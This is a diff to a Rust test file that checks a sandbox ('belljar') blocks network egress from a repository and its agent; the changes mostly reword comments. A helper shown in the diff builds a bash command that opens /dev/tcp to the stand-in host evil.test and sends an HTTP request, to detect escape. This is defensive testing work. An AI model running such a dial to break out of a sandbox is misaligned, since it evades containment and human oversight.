@@ -1,4 +1,4 @@
-//! A repository, and an agent that works in it, ask for a way out; only people give it, and never a private one.
+//! A repository, and an agent that works in it, ask for egress; only the user grants it, and never to a private address.
 
 use belljar_tests_containment::egress::at;
 use belljar_tests_containment::*;
@@ -8,8 +8,8 @@ use std::os::unix::fs::{PermissionsExt, symlink};
 use std::process::{Command, Output};
 use tempfile::TempDir;
 
-/// A person: a home with a resolver of their own, which notes for whom it was asked. Nobody is asked for a name that is
-/// not allowed, so a question is the sign that something got out.
+/// A person: a home with a resolver of their own, which notes the names it was asked for. The gateway asks no resolver for a name
+/// that is not allowed, so a query is the sign that something got out.
 struct Person {
     home: TempDir,
     repository: TempDir,
@@ -37,7 +37,7 @@ impl Person {
         command.env("HOME", self.home.path()).output().unwrap()
     }
 
-    /// Whether somebody inside gets so far that the resolver is asked for `evil.test`.
+    /// Whether a program inside gets so far that the resolver is asked for `evil.test`.
     fn gets_out(&self, backend: &str) -> bool {
         let before = self.dns.queries().len();
         let dial = "exec 3<>/dev/tcp/evil.test/80 && printf 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' >&3 && cat <&3";
